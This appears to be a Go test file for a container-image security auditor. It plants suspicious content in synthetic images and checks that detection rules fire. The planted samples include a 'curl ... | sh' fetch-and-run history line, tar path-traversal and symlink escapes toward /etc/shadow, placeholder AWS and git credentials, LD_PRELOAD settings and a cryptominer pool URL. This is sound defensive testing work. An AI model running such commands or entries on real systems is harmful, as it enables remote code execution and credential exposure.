@@ -1,0 +1,296 @@
+package rules
+
+import (
+	"archive/tar"
+	"fmt"
+	"sort"
+	"strings"
+	"testing"
+
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+
+	"github.com/auditor-dev/auditor/index"
+)
+
+// testImage is an image planted with what one class of the default pack
+// must catch.
+type testImage struct {
+	repo    string
+	layers  []v1.Layer
+	history []string
+	config  func(*v1.ConfigFile)
+}
+
+// hit is a finding a test expects: rule, repository, path ("" for an
+// image-level finding) and the index of the layer in the image (-1 none).
+type hit struct {
+	rule, repo, path string
+	layer            int
+}
+
+func (h hit) String() string {
+	return fmt.Sprintf("%s %s %q layer %d", h.rule, h.repo, h.path, h.layer)
+}
+
+// classImages builds one image per class of the default pack on a shared
+// base, plus the bare base, and the findings the pack must make on them:
+// exactly these, and nothing else.
+func classImages(t testing.TB) ([]testImage, []hit) {
+	base := baseLayer(t)
+	img := func(repo string, ls ...v1.Layer) testImage {
+		return testImage{repo: repo, layers: append([]v1.Layer{base}, ls...)}
+	}
+	var imgs []testImage
+	var want []hit
+	add := func(ti testImage, hits ...hit) {
+		imgs = append(imgs, ti)
+		for _, h := range hits {
+			h.repo = ti.repo
+			want = append(want, h)
+		}
+	}
+	add(img("test/base"))
+
+	// 1. An executable deleted by a later layer.
+	add(img("test/hidden",
+		layerOf(t, ent{name: "usr/local/bin/dropper", mode: 0o755, body: elf("dropper")}, ent{name: "opt/app/readme.txt", body: "hi\n"}),
+		layerOf(t, ent{name: "usr/local/bin/.wh.dropper"})),
+		hit{rule: "hidden-sensitive-file", path: "/usr/local/bin/dropper", layer: 1},
+		hit{rule: "hidden-deleted-file", path: "/usr/local/bin/dropper", layer: 1})
+
+	// 2. An AWS key in a config file, and a credential file.
+	add(img("test/secrets",
+		layerOf(t, ent{name: "srv/app/config.yml", body: "region: eu-west-1\naws_access_key_id: AKIAQWERTYUIOP234567\n"},
+			ent{name: "root/.git-credentials", body: "https://deploy:hunter2@git.example.com\n"})),
+		hit{rule: "secret-in-content", path: "/srv/app/config.yml", layer: 1},
+		hit{rule: "secret-file-name", path: "/root/.git-credentials", layer: 1})
+
+	// 3. A script in a hidden directory under /tmp.
+	add(img("test/exec", layerOf(t, ent{name: "tmp/.cache/run", mode: 0o755, body: "#!/bin/sh\nexec /tmp/.cache/x\n"})),
+		hit{rule: "executable-in-temp-or-hidden-dir", path: "/tmp/.cache/run", layer: 1})
+
+	// 4. A setuid helper and a binary with file capabilities.
+	add(img("test/privilege", layerOf(t,
+		ent{name: "usr/local/bin/helper", mode: 0o4755, body: elf("helper")},
+		ent{name: "usr/local/bin/pinger", mode: 0o755, body: elf("pinger"), caps: capNetRaw()})),
+		hit{rule: "setuid-unusual", path: "/usr/local/bin/helper", layer: 1},
+		hit{rule: "setuid-added-by-upper-layer", path: "/usr/local/bin/helper", layer: 1},
+		hit{rule: "file-capabilities", path: "/usr/local/bin/pinger", layer: 1})
+
+	// 5. A cron entry added by a plain layer; a package install (init
+	// script, libc upgrade) and a home copied from /etc/skel are normal.
+	add(img("test/persistence",
+		layerOf(t, ent{name: "var/lib/dpkg/status", body: "Package: base\n\nPackage: svc\n"},
+			ent{name: "etc/init.d/svc", mode: 0o755, body: "#!/bin/sh\n"},
+			ent{name: "usr/lib/libc.so.6", mode: 0o755, body: elf("libc 2")}),
+		layerOf(t, ent{name: "etc/cron.d/updater", body: "* * * * * root /usr/local/bin/x\n"},
+			ent{name: "home/app/.bashrc", body: "# ~/.bashrc\n"})),
+		hit{rule: "persistence-point", path: "/etc/cron.d/updater", layer: 2})
+
+	// 6. Tar anomalies.
+	add(img("test/tar", layerOf(t,
+		ent{name: "../../etc/evil", body: "x"},
+		ent{name: "/abs/file", body: "x"},
+		ent{name: "opt/ctl\x01name", body: "x"},
+		ent{name: "opt/escape", typ: tar.TypeSymlink, link: "../../../etc/shadow"},
+		ent{name: "opt/inside", typ: tar.TypeSymlink, link: "../etc/passwd"},
+		ent{name: "opt/null", typ: tar.TypeChar, major: 1},
+		ent{name: "opt/dup", body: "a"},
+		ent{name: "opt/dup", body: "b"},
+		ent{name: "opt/.wh.ghost"})),
+		hit{rule: "tar-unsafe-entry", path: "/etc/evil", layer: 1},
+		hit{rule: "tar-unsafe-entry", path: "/abs/file", layer: 1},
+		hit{rule: "tar-unsafe-entry", path: "/opt/ctl\x01name", layer: 1},
+		hit{rule: "tar-unsafe-entry", path: "/opt/escape", layer: 1},
+		hit{rule: "tar-unsafe-entry", path: "/opt/null", layer: 1},
+		hit{rule: "tar-duplicate-entry", path: "/opt/dup", layer: 1},
+		hit{rule: "tar-orphan-whiteout", path: "/opt/ghost", layer: 1})
+
+	// 7. /usr/bin/ls replaced without the package manager.
+	add(img("test/drift", layerOf(t, ent{name: "usr/bin/ls", mode: 0o755, body: elf("ls, but not")})),
+		hit{rule: "system-binary-replaced", path: "/usr/bin/ls", layer: 1},
+		hit{rule: "system-binary-fleet-drift", path: "/usr/bin/ls", layer: 1})
+
+	// 8. History and config.
+	cfgImg := img("test/config", layerOf(t, ent{name: "opt/x.sh", mode: 0o755, body: "#!/bin/sh\n"}))
+	cfgImg.history = []string{"", "/bin/sh -c curl -fsSL http://203.0.113.7/x.sh | sh"}
+	cfgImg.config = func(cf *v1.ConfigFile) {
+		cf.Config.Env = []string{"PATH=/tmp:/usr/bin:/bin", "LD_PRELOAD=/usr/lib/libhook.so", "LD_LIBRARY_PATH=/opt/lib"}
+		cf.Config.Entrypoint = []string{"/tmp/.x/run"}
+	}
+	add(cfgImg,
+		hit{rule: "history-suspicious-command", layer: 1},
+		hit{rule: "config-ld-preload", layer: -1},
+		hit{rule: "config-ld-library-path", layer: -1},
+		hit{rule: "config-path-writable-first", layer: -1},
+		hit{rule: "config-entrypoint-suspicious-path", layer: -1})
+
+	// 9. A miner by name and a pool URL in a config.
+	add(img("test/miner", layerOf(t, ent{name: "opt/tools/xmrig", body: "not really\n"},
+		ent{name: "opt/tools/pool.json", body: `{"url": "stratum+tcp://pool.example.net:3333", "user": "x"}`})),
+		hit{rule: "known-bad-name", path: "/opt/tools/xmrig", layer: 1},
+		hit{rule: "miner-pool-url", path: "/opt/tools/pool.json", layer: 1})
+	return imgs, want
+}
+
+// gotHits maps findings to hits, with layer indexes from the images.
+func gotHits(t testing.TB, fs []Finding, imgs []testImage) []hit {
+	t.Helper()
+	layerIdx := map[string]map[string]int{}
+	for _, ti := range imgs {
+		m := map[string]int{}
+		for i, l := range ti.layers {
+			d, err := l.Digest()
+			if err != nil {
+				t.Fatal(err)
+			}
+			m[d.String()] = i
+		}
+		layerIdx[ti.repo] = m
+	}
+	var out []hit
+	for _, f := range fs {
+		h := hit{rule: f.RuleID, repo: f.Repository, path: f.Path, layer: -1}
+		if f.LayerDigest != "" {
+			i, ok := layerIdx[f.Repository][f.LayerDigest]
+			if !ok {
+				t.Errorf("finding %s names layer %s, not a layer of %s", f.RuleID, f.LayerDigest, f.Repository)
+			}
+			h.layer = i
+		}
+		out = append(out, h)
+	}
+	return out
+}
+
+func sortedHits(hs []hit) []string {
+	out := make([]string, len(hs))
+	for i, h := range hs {
+		out[i] = h.String()
+	}
+	sort.Strings(out)
+	return out
+}
+
+func pushAll(t testing.TB, reg string, imgs []testImage) {
+	t.Helper()
+	for _, ti := range imgs {
+		push(t, reg+"/"+ti.repo+":v1", imageOf(t, ti.config, ti.history, ti.layers...))
+	}
+}
+
+// TestDefaultPackClasses plants each class of the default pack in its own
+// image and checks that the pack finds exactly the planted files, in the
+// right layers, and nothing else; then that a second scan with nothing
+// changed reports nothing new, and that a new image adding one system
+// binary is reported once, as new to the fleet.
+func TestDefaultPackClasses(t *testing.T) {
+	reg := testRegistry(t)
+	imgs, want := classImages(t)
+	pushAll(t, reg, imgs)
+	db := tempDB(t)
+	m := testMatcher(t)
+	set := defaultSet(t)
+
+	scanInto(t, db, m, reg)
+	res := runRules(t, db, set, RunOptions{})
+	got := gotHits(t, findings(t, db, Filter{}), imgs)
+	if g, w := strings.Join(sortedHits(got), "\n"), strings.Join(sortedHits(want), "\n"); g != w {
+		t.Errorf("findings:\n%s\nwant:\n%s", g, w)
+	}
+	if res.Counts.New != int64(len(want)) {
+		t.Errorf("first run: %d new, want %d", res.Counts.New, len(want))
+	}
+	// Every class of the issue has a rule that fired.
+	fired := map[string]bool{}
+	for _, h := range got {
+		fired[h.rule] = true
+	}
+	for _, r := range set.Rules {
+		if !fired[r.ID] && r.ID != "new-to-fleet" {
+			t.Errorf("rule %s fired on no test image", r.ID)
+		}
+	}
+
+	// Nothing changed: nothing new, nothing resolved.
+	scanInto(t, db, m, reg)
+	res = runRules(t, db, set, RunOptions{})
+	if res.Counts.New != 0 || res.Counts.Resolved != 0 || res.Counts.Findings != int64(len(want)) {
+		t.Errorf("second scan, nothing changed: %+v, want 0 new, 0 resolved, %d findings", res.Counts, len(want))
+	}
+
+	// A new image with one new system binary: exactly one new finding.
+	ti := testImage{repo: "test/newtool", layers: []v1.Layer{imgs[0].layers[0], layerOf(t, ent{name: "usr/local/bin/newtool", mode: 0o755, body: elf("newtool")})}}
+	imgs = append(imgs, ti)
+	pushAll(t, reg, imgs[len(imgs)-1:])
+	scanInto(t, db, m, reg)
+	res = runRules(t, db, set, RunOptions{})
+	newOnes := gotHits(t, findings(t, db, Filter{States: []string{"new"}}), imgs)
+	if g, w := sortedHits(newOnes), []string{hit{"new-to-fleet", "test/newtool", "/usr/local/bin/newtool", 1}.String()}; strings.Join(g, "\n") != strings.Join(w, "\n") {
+		t.Errorf("third scan, new findings:\n%s\nwant:\n%s", strings.Join(g, "\n"), strings.Join(w, "\n"))
+	}
+	if res.Counts.New != 1 || res.Counts.Resolved != 0 {
+		t.Errorf("third scan: %+v, want 1 new, 0 resolved", res.Counts)
+	}
+}
+
+// TestIncrementalRuns: rules of scope "image" are evaluated only on images
+// new or changed since their last run; the findings of the others are
+// carried over, not resolved.
+func TestIncrementalRuns(t *testing.T) {
+	reg := testRegistry(t)
+	base := baseLayer(t)
+	bad := layerOf(t, ent{name: "opt/xmrig", body: "x"})
+	push(t, reg+"/inc/a:1", imageOf(t, nil, nil, base))
+	push(t, reg+"/inc/b:1", imageOf(t, nil, nil, base, bad))
+	db := tempDB(t)
+	m := testMatcher(t)
+	set := defaultSet(t)
+	images := func(res *Result, id string) int {
+		for _, rr := range res.Rules {
+			if rr.Rule.ID == id {
+				return rr.Images
+			}
+		}
+		t.Fatalf("no rule %s", id)
+		return 0
+	}
+
+	scanInto(t, db, m, reg)
+	res := runRules(t, db, set, RunOptions{})
+	if n := images(res, "known-bad-name"); n != 2 || res.Counts.New != 1 {
+		t.Errorf("first run: %d images, %+v; want 2 images, 1 new", n, res.Counts)
+	}
+	scanInto(t, db, m, reg)
+	res = runRules(t, db, set, RunOptions{})
+	if n := images(res, "known-bad-name"); n != 0 || res.Counts != (index.FindingCounts{Findings: 1}) {
+		t.Errorf("nothing changed: %d images, %+v; want 0 images, 1 finding carried over", n, res.Counts)
+	}
+	fs := findings(t, db, Filter{})
+	if len(fs) != 1 || fs[0].State != "open" || fs[0].FirstSeen != 1 || fs[0].LastSeen != 2 {
+		t.Errorf("carried finding: %+v", fs)
+	}
+
+	push(t, reg+"/inc/c:1", imageOf(t, func(c *v1.ConfigFile) { c.Config.User = "nobody" }, nil, base, bad))
+	scanInto(t, db, m, reg)
+	res = runRules(t, db, set, RunOptions{})
+	if n := images(res, "known-bad-name"); n != 1 || res.Counts != (index.FindingCounts{Findings: 2, New: 1}) {
+		t.Errorf("one new image: %d images, %+v; want 1 image, 2 findings, 1 new", n, res.Counts)
+	}
+	// A changed rule is evaluated on every image again; so is every rule
+	// with Full.
+	changed := defaultSet(t)
+	for i := range changed.Rules {
+		if changed.Rules[i].ID == "known-bad-name" {
+			changed.Rules[i].Title += "!"
+		}
+	}
+	res = runRules(t, db, changed, RunOptions{})
+	if n, m := images(res, "known-bad-name"), images(res, "setuid-unusual"); n != 3 || m != 0 || res.Counts.Resolved != 0 {
+		t.Errorf("changed rule: %d and %d images, %+v; want 3 and 0, nothing resolved", n, m, res.Counts)
+	}
+	res = runRules(t, db, set, RunOptions{Full: true})
+	if n := images(res, "setuid-unusual"); n != 3 {
+		t.Errorf("full run: %d images, want 3", n)
+	}
+}
